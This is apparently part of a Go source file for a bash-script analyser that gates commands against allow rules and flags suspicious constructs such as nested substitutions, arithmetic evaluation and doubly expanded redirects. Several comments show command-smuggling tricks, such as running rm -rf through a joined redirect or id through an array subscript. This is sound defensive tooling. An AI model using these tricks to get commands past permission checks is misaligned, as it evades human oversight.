			// The statement below is on one side of n: its right side
			// reads what the left prints.
			if (n.Op == syntax.Pipe || n.Op == syntax.PipeAll) && i+1 < len(st.stack) && st.stack[i+1].node == n.Y {
				t, s := staticOutput([]*syntax.Stmt{n.X})
				return t, s, !s, false
			}
			unseen, file := st.unseenFrom(i - 1)
			return "", false, unseen, file
		case *syntax.FuncDecl, *syntax.CoprocClause:
			return "", false, true, false
		case *syntax.File:
			unseen, file := st.parentInput()
			return "", false, unseen, file
		default:
			unseen, file := st.unseenFrom(i - 1)
			return "", false, unseen, file
		}
	}
	return "", false, false, false
}

// unseenFrom is stdinOf's unseen and file for input reaching stack[j]
// from the frames around it once a loop or list stands between them and
// the command: any input there, text or not, is not the command's own,
// and a file there (while read l; do python3; done < a.py) is what the
// command reads as much as its own < f. The answer is memoised on the
// frames it climbs, which share it, so that a long list (a && b && ...)
// costs a step per command, not its depth.
func (st *walkState) unseenFrom(j int) (unseen, file bool) {
	i, m := j, uint8(1)
climb:
	for ; i >= 0; i-- {
		if k := st.stack[i].unseen; k != 0 {
			m = k
			break
		}
		switch n := st.stack[i].node.(type) {
		case *syntax.Stmt:
			for _, r := range slices.Backward(n.Redirs) {
				if r.N != nil && r.N.Value != "0" {
					continue
				}
				switch r.Op {
				case syntax.Hdoc, syntax.DashHdoc, syntax.WordHdoc, syntax.DplIn, syntax.RdrInOut:
					m = 2
					break climb
				case syntax.RdrIn:
					m = 3 // a file is the project's data
					if _, subst := procSubst(r.Word); subst {
						m = 2
					}
					break climb
				}
			}
		case *syntax.BinaryCmd:
			if (n.Op == syntax.Pipe || n.Op == syntax.PipeAll) && i+1 < len(st.stack) && st.stack[i+1].node == n.Y {
				m = 2
				break climb
			}
		case *syntax.FuncDecl, *syntax.CoprocClause:
			m = 2
			break climb
		case *syntax.File:
			if unseen, file := st.parentInput(); unseen {
				m = 2
			} else if file {
				m = 3
			}
			break climb
		}
	}
	for k := max(i, 0); k <= j; k++ {
		st.stack[k].unseen = m
	}
	return m == 2, m == 3
}

// parentInput reports whether the code this walk's source came from
// (bash -c CODE, eval CODE) is given input: any text or input the gate
// cannot see is not the nested commands' own (unseen); a file is what
// they read (file).
func (st *walkState) parentInput() (unseen, file bool) {
	if st.parent == nil {
		return false, false // the script's own input: none
	}
	t, _, u, f := st.parent.stdinOf()
	return u || t != "", f
}

// docText returns the text of a here-document or here-string body w:
// unquoted if it is static, else as written; "" for an empty body (nil).
func (st *walkState) docText(w *syntax.Word) (string, bool) {
	if w == nil {
		return "", true // an empty body: no text, and nothing computed
	}
	t := newWord(w, st.src)
	if t.Static {
		return t.Value, true
	}
	return t.Raw, false
}

// argWord returns w as unquoted already if w is the next argument of the
// CallExpr around it (Word has Raw set then); else a Word to unquote.
func (st *walkState) argWord(w *syntax.Word) *Word {
	if len(st.stack) == 0 {
		return nil
	}
	fr := &st.stack[len(st.stack)-1]
	call, ok := fr.node.(*syntax.CallExpr)
	if !ok || fr.cmd == nil || fr.next >= len(call.Args) || call.Args[fr.next] != w || fr.next >= len(fr.cmd.Words) {
		return nil
	}
	fr.next++
	return &fr.cmd.Words[fr.next-1]
}

// leave undoes the enter of the innermost node.
func (st *walkState) leave() {
	top := &st.stack[len(st.stack)-1]
	st.stack = st.stack[:len(st.stack)-1]
	f := top.flags
	if f&inSubst != 0 {
		st.subst--
	}
	if f&inFork != 0 {
		st.forks--
	}
	if f&inBg != 0 {
		st.bg--
	}
	if f&inScope != 0 {
		st.scopes = st.scopes[:len(st.scopes)-1]
	}
	if f&inArith != 0 {
		st.arith--
	}
}

// arithRoot reports whether n is an arithmetic or subscript context that
// visit checks with arithmetic.
func (st *walkState) arithRoot(n syntax.Node) bool {
	switch n := n.(type) {
	case *syntax.ArithmExp, *syntax.ArithmCmd, *syntax.LetClause, *syntax.CStyleLoop:
		return true
	case *syntax.BinaryTest:
		return arithTestOps.Get()[n.Op]
	case *syntax.UnaryTest:
		return n.Op == syntax.TsVarSet || n.Op == syntax.TsRefVar
	}
	if len(st.stack) == 0 {
		return false
	}
	switch p := st.stack[len(st.stack)-1].node.(type) {
	case *syntax.Assign:
		return p.Index != nil && n == syntax.Node(p.Index)
	case *syntax.ParamExp:
		return p.Index != nil && n == syntax.Node(p.Index) ||
			p.Slice != nil && (p.Slice.Offset != nil && n == syntax.Node(p.Slice.Offset) ||
				p.Slice.Length != nil && n == syntax.Node(p.Slice.Length))
	}
	return false
}

// suspect reports label once. There are few labels, so a look through
// those already reported is cheap.
func (c *collector) suspect(label string) {
	if !slices.Contains(c.script.Suspicious, label) {
		c.script.Suspicious = append(c.script.Suspicious, label)
	}
}

// walk visits every node under root. syntax.Walk calls f(nil) after a
// node's children, which keeps st.stack the list of enclosing nodes.
func (c *collector) walk(root syntax.Node, st *walkState) {
	syntax.Walk(root, st.fn)
}

func (c *collector) visit(n syntax.Node, st *walkState) {
	switch n := n.(type) {
	case *syntax.CmdSubst, *syntax.ProcSubst:
		if st.subst > 0 {
			c.suspect(labelNestedSubst)
		}
	case *syntax.Stmt:
		c.redirects(n.Redirs, st)
	case *syntax.FuncDecl:
		// A function named ./tool or /usr/bin/git shadows a program a
		// rule names by its path, and its name reads like a path operand.
		if n.Name != nil && (strings.Contains(n.Name.Value, "/") || strings.HasPrefix(n.Name.Value, ".")) {
			c.suspect(labelFuncPath)
		}
		if n.Name != nil {
			if c.script.funcs == nil {
				c.script.funcs = map[string]bool{}
			}
			c.script.funcs[n.Name.Value] = true
		}
	case *syntax.CallExpr:
		cmd := c.newCommand()
		cmd.Nested = st.inNested()
		if len(n.Assigns) > 0 {
			cmd.Assigns = make([]Assign, len(n.Assigns))
			for i, a := range n.Assigns {
				cmd.Assigns[i] = newAssign(a, st.src)
			}
		}
		if len(n.Args) > 0 {
			cmd.Words = c.newWords(len(n.Args))
			static := true
			for i, w := range n.Args {
				cmd.Words[i] = newWord(w, st.src)
				static = static && cmd.Words[i].Static
			}
			cmd.spaced = spacedText(n.Args, st.src)
			if !static {
				c.notePending(cmd, n.Args, st)
			}
		}
		if len(n.Args) > 0 {
			name, ok := cmd.Name()
			c.call(cmd, name, ok, st)
		}
		cmd.Stdin, cmd.stdinStatic, cmd.stdinUnseen, cmd.stdinFile = st.stdinOf()
		c.add(cmd, st)
		st.made = cmd
	case *syntax.DeclClause:
		cmd := c.newCommand()
		cmd.Nested = st.inNested()
		cmd.Words = c.newWords(1 + len(n.Args))
		cmd.Words[0] = Word{Raw: n.Variant.Value, Value: n.Variant.Value, Static: true}
		for i, a := range n.Args {
			cmd.Words[1+i] = declWord(a, st.src)
		}
		c.add(cmd, st)
	case *syntax.ForClause:
		// Each static item is a value the loop's name takes.
		if it, ok := n.Loop.(*syntax.WordIter); ok && it.Name != nil {
			c.noteSet(it.Name.Value, true)
			for _, item := range it.Items {
				if w := unquote(item); w.Static && !w.Glob && !w.Tilde {
					c.noteFor(it.Name.Value, w.Value)
				}
			}
		}
	case *syntax.CoprocClause:
		// coproc NAME sets NAME to its descriptors and NAME_PID, which
		// may be variables commands read (coproc PATH { ...; }); the
		// default COPROC is not.
		name := "COPROC"
		if n.Name != nil {
			if w := unquote(n.Name); w.Static && validName(w.Value) {
				name = w.Value
			} else {
				c.noteSetAny(true)
			}
		}
		c.noteSet(name, n.Name != nil)
		c.noteSet(name+"_PID", n.Name != nil)
		c.noteArray(name) // NAME holds the descriptors, an array
	case *syntax.Assign:
		if n.Name != nil && (n.Array != nil || n.Index != nil) {
			c.noteArray(n.Name.Value) // y=(...), y[0]=...
		}
		// The name it sets is noted with the command's (collector.command).
		if n.Name != nil && (n.Name.Value == "BASH_ALIASES" || n.Name.Value == "BASH_CMDS") {
			c.suspect(labelAliasVar)
		}
		if n.Index != nil {
			c.arithmetic(n.Index, st)
		}
	case *syntax.ArrayElem:
		if n.Index != nil {
			c.arithmetic(n.Index, st) // a=( [$x]=1 )
		}
	case *syntax.ArithmExp, *syntax.ArithmCmd, *syntax.LetClause, *syntax.CStyleLoop:
		c.arithmetic(n, st)
	case *syntax.BinaryTest:
		if arithTestOps.Get()[n.Op] {
			c.arithmetic(n, st)
		}
	case *syntax.UnaryTest:
		if n.Op == syntax.TsVarSet || n.Op == syntax.TsRefVar {
			c.arithmetic(n, st)
		}
	case *syntax.ParamExp:
		if n.Param != nil && n.Param.Value == "IFS" {
			c.suspect(labelIFS)
		}
		if n.Excl && n.Param != nil && n.Index == nil && n.Names == 0 {
			c.noteArith(n.Param.Value) // ${!x}: x's value names a variable, a[...] included
		}
		if n.Exp != nil && n.Exp.Op == syntax.OtherParamOps && (n.Exp.Word == nil || !quietTransform(n.Exp.Word.Lit())) {
			c.suspect(labelPrompt) // ${x@P}: the value's $(...) run
		}
		if n.Exp != nil && (n.Exp.Op == syntax.AssignUnset || n.Exp.Op == syntax.AssignUnsetOrNull) {
			if n.Param != nil && !n.Excl && validName(n.Param.Value) {
				c.noteSet(n.Param.Value, true) // ${x:=v}
				if n.Exp.Word != nil {
					if v := unquote(n.Exp.Word); v.Static && !v.Glob && !v.Tilde {
						c.noteFor(n.Param.Value, v.Value) // a value x takes, as a for loop's
					}
				}
			} else {
				c.noteSetAny(true)
			}
		}
		if n.Param != nil && (n.Param.Value == "BASH_ALIASES" || n.Param.Value == "BASH_CMDS") && n.Index != nil {
			c.suspect(labelAliasVar)
		}
		if n.Index != nil {
			c.arithmetic(n.Index, st)
		}
		if n.Slice != nil {
			if n.Slice.Offset != nil {
				c.arithmetic(n.Slice.Offset, st)
			}
			if n.Slice.Length != nil {
				c.arithmetic(n.Slice.Length, st)
			}
		}
	case *syntax.Word:
		c.word(n, st.argWord(n), st)
	}
}

// add records cmd and analyses the shell code it runs from strings.
func (c *collector) add(cmd *Command, st *walkState) {
	if len(cmd.Words) > 0 {
		cmd.cached = cmd.allReadings(cmd.first[:0])
	}
	cmd.narrowed.words, cmd.narrowed.ok = cmd.narrowWords()
	cmd.narrowed.done = true
	if len(cmd.cached) >= maxVariants {
		c.suspect(labelTooWrapped) // readings past the bound were not made
	}
	if c.script.Commands == nil {
		c.script.Commands = slices.Grow(c.list, max(c.guess, 4)) // reserve guessed how many
	}
	c.script.Commands = append(c.script.Commands, cmd)
	c.command(cmd)
	c.nestedShells(cmd, st)
}

// redirects records the file redirects in rs.
func (c *collector) redirects(rs []*syntax.Redirect, st *walkState) {
	for _, r := range rs {
		if r.N != nil && strings.HasPrefix(r.N.Value, "{") {
			// {x}<f sets x to the descriptor it opens.
			c.noteSet(strings.Trim(r.N.Value, "{}"), true)
		}
		switch r.Op {
		case syntax.Hdoc, syntax.DashHdoc, syntax.WordHdoc:
			continue // the body is data; substitutions in it are walked
		}
		t := newWord(r.Word, st.src)
		if (r.Op == syntax.DplIn || r.Op == syntax.DplOut) && len(t.Raw) > 1 && t.Raw[0] == '-' {
			// Bash reads >&- (and <&-) as one operator, and what
			// follows as a word of the command: `rm >&--rf x` runs
			// rm -rf x; the parser read a redirect to "--rf".
			c.suspect(labelCloseJoined)
		}
		if t.Static && (t.Value == "/dev/null" || (r.Op == syntax.DplIn || r.Op == syntax.DplOut) && isFD(t.Value)) {
			continue
		}
		if r.Op == syntax.DplOut && (!t.Static || strings.ContainsAny(t.Value, expandedAgain)) {
			// >&WORD to a file: bash expands the expanded word a second
			// time, so that >&'$(cmd)' runs cmd and >&'\.env' writes .env.
			c.suspect(labelRedirectTwice)
		}
		c.script.Redirects = append(c.script.Redirects, Redirect{
			Op:     r.Op.String(),
			Output: r.Op != syntax.RdrIn && r.Op != syntax.DplIn,
			Target: t,
		})
	}
}

// spacedText returns the source text of args if one space, and nothing
// else, separates each from the next; else "".
func spacedText(args []*syntax.Word, src string) string {
	start, end := args[0].Pos().Offset(), args[len(args)-1].End().Offset()
	if start > end || end > uint(len(src)) {
		return ""
	}
	for i := 1; i < len(args); i++ {
		prev := args[i-1].End().Offset()
		if args[i].Pos().Offset() != prev+1 || prev >= uint(len(src)) || src[prev] != ' ' {
			return ""
		}
	}
	return src[start:end]
}

// expandedAgain are the characters of a >&WORD target that bash's second
// expansion of it may read otherwise than as themselves: quotes and
// escapes, expansions, globs, a tilde, braces, white space, and the two
// bytes bash quotes with internally (\x01, \x7f), which it drops.
const expandedAgain = "\\'\"$`*?[~{} \t\n\x01\x7f"

// isFD reports whether the target of a >& or <& redirect names a file
// descriptor ("2", "2-" to move it, "-" to close) rather than a file.
func isFD(s string) bool {
	s = strings.TrimSuffix(s, "-")
	for _, r := range s {
		if r < '0' || r > '9' {
			return false
		}
	}
	return true
}

// newAssign returns the Assign for a, whose source text is src.
func newAssign(a *syntax.Assign, src string) Assign {
	out := Assign{Raw: sourceText(src, a)}
	if a.Name != nil {
		out.Name = a.Name.Value
	}
	if a.Name == nil || a.Naked || a.Append || a.Index != nil || a.Array != nil {
		return out
	}
	if a.Value == nil {
		out.Static = true // NAME= assigns the empty string
		return out
	}
	if v, ok := assignValueSimple(a.Value); ok {
		out.Value, out.Static = v, true
		return out
	}
	out.Value, out.Static = assignValueFull(out.Name, a.Value)
	return out
}

// assignValueSimple is assignValueFull for the common value, one literal
// with no "~", backslash or "{" or one plain single-quoted string, which
// is its own text. ok is false for every other value. FuzzUnquote checks
// that the two agree.
func assignValueSimple(v *syntax.Word) (string, bool) {
	if len(v.Parts) != 1 {
		return "", false
	}
	switch p := v.Parts[0].(type) {
	case *syntax.Lit:
		if !strings.ContainsAny(p.Value, "~\\{") {
			return p.Value, true
		}
	case *syntax.SglQuoted:
		if !p.Dollar {
			return p.Value, true
		}
	}
	return "", false
}

// assignValueFull returns the value of a plain assignment to name with its
// quoting removed and true if it is static; else "" and false.
func assignValueFull(name string, v *syntax.Word) (string, bool) {
	// Unquote NAME=value as one word so that the tilde rules for
	// assignments ("~" after "=" or ":") apply.
	parts := append([]syntax.WordPart{&syntax.Lit{Value: name + "="}}, v.Parts...)
	w := unquote(&syntax.Word{Parts: parts})
	if !w.Static {
		return "", false
	}
	return strings.TrimPrefix(w.Value, name+"="), true
}

// declWord returns an argument of declare, export and friends as a Word.
func declWord(a *syntax.Assign, src string) Word {
	raw := sourceText(src, a)
	switch {
	case a.Name == nil && a.Value != nil:
		return newWord(a.Value, src) // an option or an expansion
	case a.Naked:
		if !validName(raw) {
			return Word{Raw: raw} // export 'A\x00': not a name, so not known
		}
		return Word{Raw: raw, Value: raw, Static: true}
	}
	as := newAssign(a, src)
	if !as.Static {
		return Word{Raw: raw}
	}
	return Word{Raw: raw, Value: as.Name + "=" + as.Value, Static: true}
}

// endless reports a while loop whose condition is true or ":" (an until
// loop: false).
func endless(w *syntax.WhileClause) bool {
	if len(w.Cond) != 1 {
		return false
	}
	call, ok := w.Cond[0].Cmd.(*syntax.CallExpr)
	if !ok || len(call.Args) != 1 {
		return false
	}
	v := unquote(call.Args[0])
	if !v.Static {
		return false
	}
	if w.Until {
		return v.Value == "false"
	}
	return v.Value == "true" || v.Value == ":"
}

// arithTestOps are the [[ ]] operators whose operands bash evaluates as
// arithmetic.
var arithTestOps = lazy.Value[map[syntax.BinTestOperator]bool]{New: func() map[syntax.BinTestOperator]bool {
	return map[syntax.BinTestOperator]bool{
		syntax.TsEql: true, syntax.TsNeq: true, syntax.TsLss: true, syntax.TsLeq: true,
		syntax.TsGtr: true, syntax.TsGeq: true,
	}
}}

// arithmetic checks an arithmetic or subscript context: an expansion in it
// may hold text bash evaluates again (x='a[$(id)]'; (( x )) runs id), so a
// script with one is not read-only. A quoted subscript that runs a
// substitution is suspicious.
//
// An arithmetic context inside one already checked is not walked again:
// everything in it was seen by the outer walk, which keeps nested
// contexts linear.
func (c *collector) arithmetic(n syntax.Node, st *walkState) {
	if st.arith > 0 {
		return
	}
	syntax.Walk(n, func(m syntax.Node) bool {
		// Its depth counts with the walk's (maxWalk).
		if m == nil {
			c.depth--
			return true
		}
		if !c.descend() {
			return false
		}
		switch m := m.(type) {
		case *syntax.ParamExp, *syntax.CmdSubst, *syntax.ProcSubst:
			if c.script.NotReadOnly == "" {
				c.script.NotReadOnly = "arithmetic or subscript context holds an expansion: " + sourceText(st.src, n)
			}
			if pe, ok := m.(*syntax.ParamExp); ok && pe.Param != nil {
				c.noteArith(pe.Param.Value) // $((1 + $x)): x's value is read as arithmetic
			}
		case *syntax.Word:
			u := unquote(m)
			switch {
			case u.Static && strings.ContainsAny(u.Value, "$`"):
				c.suspect(labelSubscript)
			case u.Static && mayAssignArith(u.Value):
				c.noteSetAny(true) // [[ 1 -eq x=1 ]]: text bash evaluates
			case u.Static:
				name, _, _ := strings.Cut(u.Value, "[")
				if validName(name) {
					c.noteArith(name) // (( x )): x's value is read as arithmetic
				}
			}
		case *syntax.BinaryArithm:
			if arithAssigns(m.Op) {
				c.noteArithSet(m.X)
			}
		case *syntax.UnaryArithm:
			if m.Op == syntax.Inc || m.Op == syntax.Dec {
				c.noteArithSet(m.X)
			}
		}
		return true
	})
}

// StdinFed reports whether the script gives the command its standard
// input: text (Stdin: a here-document or here-string, its own or its
// group's, or what echo or printf print into it, empty text included), a
// file (< f, its own or a loop's, list's or nested shell's around it), or
// what the gate cannot see (a pipe from another command, a
// loop's input: stdinUnseen). What the command reads is then part of what
// it does (python3 <<EOF, cat x.py | python3, xargs rm's operands), and
// no allow rule, which matches the command's words, says it.
func (c *Command) StdinFed() bool {
	return c.Stdin != "" || c.stdinStatic || c.stdinUnseen || c.stdinFile
}

// Name returns the static program name (the first word's value) and true;
// false if the command has no words, or the name is not static or is a
// glob pattern (`$CMD x`, `$(echo rm) x`, `"$x"`, `/bin/r? x`).
func (c *Command) Name() (string, bool) {
	if len(c.Words) == 0 || !c.Words[0].Static || c.Words[0].Glob {
		return "", false
	}
	return c.Words[0].Value, true
}
